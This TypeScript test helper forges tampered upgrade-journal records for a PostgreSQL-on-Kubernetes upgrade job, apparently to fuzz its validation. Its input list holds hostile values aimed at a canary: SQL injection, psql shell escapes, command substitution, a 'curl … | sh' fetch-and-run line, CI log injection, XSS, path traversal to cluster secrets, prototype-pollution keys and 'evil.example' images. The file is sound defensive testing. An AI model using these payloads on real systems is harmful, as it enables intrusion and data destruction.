import { jobName } from '../../../src/objects/upgrade-job.ts';
import { oldImage } from '../../unit/objects.ts';
import type { Random } from './random.ts';
import { canary } from './world.ts';

export type Data = Record<string, string>;

type Json = null | boolean | number | string | Json[] | Members;

interface Members {
  [name: string]: Json;
}

/** Texts that are code, a name of something else, or nothing that anybody expects. */
const texts: readonly string[] = [
  ...[
    'pv-victim',
    'pv-users',
    'pv-released',
    'users-data',
    'users-snapshot',
    'users-secret',
    'users-config',
    'users-job',
  ],
  ...[
    'keycloak',
    'users-app',
    'users-cron',
    'frontend',
    'postgresql',
    'data-postgresql-0',
    'data-postgresql-0-copy',
    jobName,
  ],
  ...[
    'default',
    'kube-system',
    'another',
    'Retain',
    'Delete',
    'Recycle',
    'upgraded',
    'reverted',
    'complete',
    'yes',
    'postgres',
    'C',
  ],
  ...[
    'evil.example/postgres:12.1',
    `evil.example/${canary}:1`,
    `${oldImage}@sha256:${'0'.repeat(64)}`,
    'library/postgres',
  ],
  `0/0'));\n\\! touch ${canary}`,
  `0/0'::pg_lsn)); COPY t TO PROGRAM '${canary}`,
  `$(touch ${canary})`,
  `\`touch ${canary}\``,
  `x; curl ${canary} | sh #`,
  `'; DROP TABLE ${canary}; --`,
  `\n::add-mask::${canary}`,
  `##[error]${canary}`,
  `![x](https://${canary}.example/x.png) @everyone <img src=x onerror=${canary}>`,
  `../../../api/v1/namespaces/kube-system/secrets/${canary}`,
  `${canary}\u0000\u001b[2J\u202e`,
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '',
    ' ',
    '\n',
    'null',
    'undefined',
    '[]',
    '{}',
  ],
  ...[
    '99999999999999999999',
    '-1',
    '1e308',
    '0x10',
    'NaN',
    '1'.repeat(400),
    '1970-01-01T00:00:00Z',
    '9999-12-31T23:59:59.999Z',
  ],
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`,
  'x'.repeat(200_000),
  '{"__proto__":{"outcome":"upgraded"},"volume":"pv-victim","former":"pv-1"}',
];

const steps = ['protect-volume', 'prove-backup', 'anchor', 'stop-applications', 'quiesce', 'stop-postgresql', 'backup'];
const laterSteps = [
  'upgrade-job',
  'backup-ready',
  'activate',
  'verify',
  'update-extensions',
  'before-applications',
  'restore-applications',
  'quick-analyze',
  'after-applications',
  'analyze',
  'confirm-backup',
  'finish',
];

const values: readonly Json[] = [
  ...[null, true, false, 0, -1, 1.5, 2 ** 31, 2 ** 53, 1e308, [], {}, [[[[]]]], { name: 'pv-victim' }],
  { ['__proto__']: { kind: 'snapshot' } },
  [...texts.slice(0, 8)],
];

/** Notes that may be there, also where this journal has none. */
const names = [
  ...[
    'step',
    'downSince',
    'measured',
    'backup',
    'live',
    'mark',
    'cuts',
    'rehearsal',
    'served',
    'exchange',
    'released',
    'letIn',
    'rollback',
    'back',
    'undone',
  ],
  ...[
    'sortOrders',
    'validated',
    'statistics',
    'outcome',
    'record',
    'counter',
    'salt',
    '__proto__',
    'constructor',
    'unknown',
  ],
];

/**
 * A journal as a neighbour would make it of an authentic one, by one to three changes.
 * @param others authentic ones of other moments, from which notes may be taken
 */
export function forge(random: Random, data: Readonly<Data>, others: readonly Readonly<Data>[]): Data {
  let forged: Data = { ...data };
  const changes = 1 + random.below(3);
  for (let change = 0; change < changes; change++) forged = changed(random, forged, others);
  return forged;
}

function changed(random: Random, data: Data, others: readonly Readonly<Data>[]): Data {
  const name = random.of([...names, ...Object.keys(data), 'record', 'record', 'record', 'exchange', 'live']);
  switch (random.below(8)) {
    case 0:
      return without(data, name);
    case 1:
      return set(data, name, random.of(texts));
    case 2:
      // Contradictory: what another moment of the same upgrade noted.
      return set(data, name, own(random.of(others), name) ?? random.of(texts));
    case 3:
      return set(data, random.of(['step', 'undone']), random.of([...steps, ...laterSteps]));
    case 4:
      return set(data, 'live', random.of([data['backup'] ?? '', 'users-snapshot', data['served'] ?? '', 'pv-1']));
    case 5:
      return set(data, random.of(['back', 'rollback', 'letIn']), 'The neighbour wants it.');
    default:
      return within(random, data, Object.hasOwn(data, name) ? name : 'record');
  }
}

function own(data: Readonly<Data>, name: string): string | undefined {
  return Object.hasOwn(data, name) ? data[name] : undefined;
}

function without(data: Data, name: string): Data {
  return Object.fromEntries(Object.entries(data).filter(([other]) => other !== name));
}

function set(data: Data, name: string, value: string): Data {
  return Object.fromEntries([...Object.entries(data).filter(([other]) => other !== name), [name, value]]);
}

/** Changes one value inside of a JSON text; any other text is replaced. */
function within(random: Random, data: Data, name: string): Data {
  let json: Json;
  try {
    json = JSON.parse(data[name] ?? '') as Json;
  } catch {
    return set(data, name, random.of(texts));
  }
  if (typeof json !== 'object' || json === null) return set(data, name, random.of(texts));
  const places = placesOf(json);
  if (places.length === 0) return set(data, name, random.of(texts));
  const { holder, key } = random.of(places);
  const target = holder as Record<string | number, Json>;
  const kind = random.below(10);
  if (kind === 0) Reflect.deleteProperty(target, key);
  else if (kind === 1) target[random.of(['__proto__x', 'constructor', 'extra', 'uid'])] = random.of(texts);
  else target[key] = kind < 8 ? random.of(texts) : random.of(values);
  return set(data, name, JSON.stringify(json));
}

function placesOf(json: Json, depth = 0): { holder: Json[] | Members; key: string | number }[] {
  if (typeof json !== 'object' || json === null || depth > 10) return [];
  return Object.entries(json).flatMap(([key, value]) => [{ holder: json, key }, ...placesOf(value, depth + 1)]);
}
